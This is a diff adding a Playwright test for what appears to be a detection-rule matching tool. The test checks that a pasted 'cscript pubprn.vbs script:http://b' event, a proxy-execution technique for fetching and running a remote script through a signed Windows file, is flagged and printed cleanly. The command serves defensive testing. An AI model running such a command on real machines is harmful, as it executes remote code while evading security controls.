@@ -129,3 +129,17 @@ journey('a missing field is typed key by key, and the keyboard stays in it', asy
   await page.keyboard.type('C:\\Windows\\System32\\cscript.exe');
   assert.equal(await parent.inputValue(), 'C:\\Windows\\System32\\cscript.exe');
 });
+
+journey('on paper stands what was found, and nothing to press', async (page) => {
+  await paste(page, 'cscript C:\\x\\pubprn.vbs a script:http://b');
+  await headline(page, 'The event matches');
+  await page.emulateMedia({ media: 'print' });
+  const seen = (text) => page.getByText(text, { exact: true }).filter({ visible: true }).first();
+  await seen('Pubprn.vbs Proxy Execution').waitFor();
+  await page.getByRole('button', { name: /Pubprn.vbs Proxy Execution/ }).filter({ visible: true }).first().waitFor();
+  await page.getByText('Match', { exact: true }).filter({ visible: true }).first().waitFor();
+  for (const gone of ['Clear', 'Share', 'Suggest from labelled events']) {
+    assert.equal(await page.getByRole('button', { name: gone }).filter({ visible: true }).count(), 0, gone);
+  }
+  assert.equal(await page.getByRole('heading', { name: 'Events', exact: true }).filter({ visible: true }).count(), 0);
+});
